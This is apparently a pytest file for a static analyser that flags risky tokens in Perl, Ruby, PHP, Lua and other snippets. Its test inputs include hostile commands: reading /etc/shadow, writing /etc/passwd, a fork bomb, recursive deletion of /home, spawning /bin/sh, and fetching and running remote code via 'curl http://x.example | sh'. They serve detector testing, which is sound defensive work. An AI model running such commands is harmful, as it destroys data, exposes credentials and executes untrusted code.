"""Perl, Ruby, PHP and the rest: what their tokens show, and what is left alone."""

from __future__ import annotations

import pytest

from yett.extract import code
from yett.extract.budget import Budget


def flags(language: str, source: str) -> frozenset[str]:
    return code.analyse(source, "/x", language=language, budget=Budget())[0].flags


@pytest.mark.parametrize(
    ("language", "source", "flag"),
    [
        ("perl", "system('id')", "process"),
        ("perl", "print `cat /etc/shadow`", "shell"),
        ("perl", "print qx{id}", "process"),
        ("perl", "open(F, '>>/etc/passwd'); print F 'x'", "sensitive_write"),
        ("perl", "open(F, 'id|')", "process"),
        ("perl", "fork while fork", "resource_bomb"),
        ("perl", 'eval pack("H*", "7379")', "obfuscated"),
        ("perl", '&{"sys" . "tem"}("id")', "computed_call"),
        ("perl", "unlink glob('/home/*')", "file_delete"),
        ("ruby", 'exec "/bin/sh"', "process"),
        ("ruby", "Kernel.send(:system, 'id')", "reflection"),
        ("ruby", 'puts "#{`id`}"', "shell"),
        ("ruby", 'puts File.read("/etc/shadow")', "sensitive_read"),
        ("ruby", 'FileUtils.rm_rf("/home")', "system_delete"),
        ("ruby", "TCPSocket.new('198.51.100.4', 1)", "network"),
        ("ruby", "Marshal.load(data)", "deserialise"),
        ("php", 'array_map("system", ["id"]);', "reflection"),
        ("php", '$f = "system"; $f("id");', "computed_call"),
        ("php", "eval(file_get_contents('http://x.example/a'));", "remote_code"),
        ("lua", 'os.execute("id")', "process"),
        ("script", 'os:cmd("id")', "process"),
        ("script", '"id".execute().text', "process"),
        ("script", 'do shell script "id"', "shell"),
        ("script", "exec /bin/sh <@stdin", "process"),
    ],
)
def test_what_a_program_does_is_seen_in_its_tokens(language: str, source: str, flag: str) -> None:
    assert flag in flags(language, source)


@pytest.mark.parametrize(
    ("language", "source"),
    [
        ("perl", "s/system/foo/g; print qq(exec summary\\n);"),
        ("perl", 'my $system = 3; print "the system is up\\n"; eval { die };'),
        ("ruby", "puts (1..10).map { |x| x * x }.select(&:even?).inspect"),
        ("php", "<?php echo array_sum([1, 2, 3]); ?>"),
        ("lua", "for i = 1, 10 do print(i * i) end"),
        ("script", 'package main; import "fmt"; func main() { fmt.Println("hello", 1+2) }'),
        ("script", "print(mean(c(1, 2, 3)))"),
    ],
)
def test_ordinary_programs_have_no_flag(language: str, source: str) -> None:
    assert not flags(language, source)


def test_the_command_in_a_call_is_handed_on() -> None:
    _, nested = code.analyse("system('curl http://x.example | sh')", "/x", language="php", budget=Budget())
    assert ("shell", "curl http://x.example | sh") in {(inner.kind, inner.text) for inner in nested}


def test_over_the_limit_it_is_opaque() -> None:
    fact, _ = code.analyse("a;" * 20_000, "/x", language="perl", budget=Budget())
    assert fact.opaque
